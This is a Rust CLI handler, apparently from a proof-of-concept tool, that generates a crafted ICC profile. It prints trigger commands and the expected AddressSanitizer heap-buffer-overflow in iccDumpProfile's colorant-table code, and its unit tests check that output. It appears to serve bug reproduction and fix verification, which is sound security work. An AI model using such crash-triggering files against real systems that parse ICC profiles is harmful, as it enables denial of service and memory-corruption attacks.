use std::path::Path;

use anyhow::Context;
use iccpoc_core::{PocConfig, PocReport, generate};

use crate::commands::generate::*;

pub fn handle_generate(args: GenerateArgs) -> anyhow::Result<()> {
    let _guard = tracing::trace_span!("Handle generate subcommand").entered();

    let config = PocConfig {
        output: args.output,
        entry_count: args.entries,
        name_fill: args.fill,
        ..Default::default()
    };
    let report = generate(&config)
        .with_context(|| format!("failed to generate {}", config.output.display()))?;

    if args.json {
        println!("{}", serde_json::to_string_pretty(&report)?);
    } else {
        print!("{}", render_report(&report));
    }
    Ok(())
}

/// Human-readable summary plus reproduction notes for the target library's
/// profile dump tool
pub fn render_report(report: &PocReport) -> String {
    let path = display_path(&report.path);
    let mut out = String::new();
    out.push_str(&format!("Created PoC: {} ({} bytes)\n", path, report.size));
    out.push_str(&format!("SHA256: {}\n", report.sha256));
    out.push('\n');
    out.push_str("Trigger:\n");
    out.push_str("  export LD_LIBRARY_PATH=Build/IccProfLib:Build/IccXML\n");
    out.push_str(&format!(
        "  Build/Tools/IccDumpProfile/iccDumpProfile {}\n",
        path
    ));
    out.push('\n');
    out.push_str("Expected (BEFORE fix):\n");
    out.push_str("  AddressSanitizer: heap-buffer-overflow\n");
    out.push_str("  READ of size 154 at CIccTagColorantTable::Describe():8903\n");
    out.push('\n');
    out.push_str("Expected (AFTER fix):\n");
    out.push_str("  Clean execution, colorant name truncated to 32 bytes\n");
    out
}

fn display_path(path: &Path) -> String {
    path.to_string_lossy().into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn report_mentions_file_and_digest() {
        let report = PocReport {
            path: "poc.icc".into(),
            size: 194,
            sha256: "ab".repeat(32),
        };
        let text = render_report(&report);

        assert!(text.starts_with("Created PoC: poc.icc (194 bytes)\n"));
        assert!(text.contains(&format!("SHA256: {}", "ab".repeat(32))));
        assert!(text.contains("iccDumpProfile poc.icc"));
        assert!(text.contains("heap-buffer-overflow"));
    }

    #[test]
    fn generate_into_temp_dir() {
        let dir = tempfile::tempdir().unwrap();
        let output = dir.path().join("poc.icc");
        let args = GenerateArgs {
            output: output.clone(),
            entries: 1,
            fill: b'A',
            json: true,
        };

        handle_generate(args).unwrap();
        assert_eq!(std::fs::read(&output).unwrap().len(), 194);
    }

    #[test]
    fn oversized_entry_count_is_an_error() {
        let dir = tempfile::tempdir().unwrap();
        let output = dir.path().join("poc.icc");
        let args = GenerateArgs {
            output: output.clone(),
            entries: iccpoc_core::MAX_ENTRY_COUNT + 1,
            fill: b'A',
            json: true,
        };

        let err = handle_generate(args).unwrap_err();
        assert!(
            matches!(
                err.downcast_ref::<iccpoc_core::Error>(),
                Some(iccpoc_core::Error::InvalidConfig(_))
            ),
            "got {err:?}"
        );
        assert!(!output.exists());
    }
}
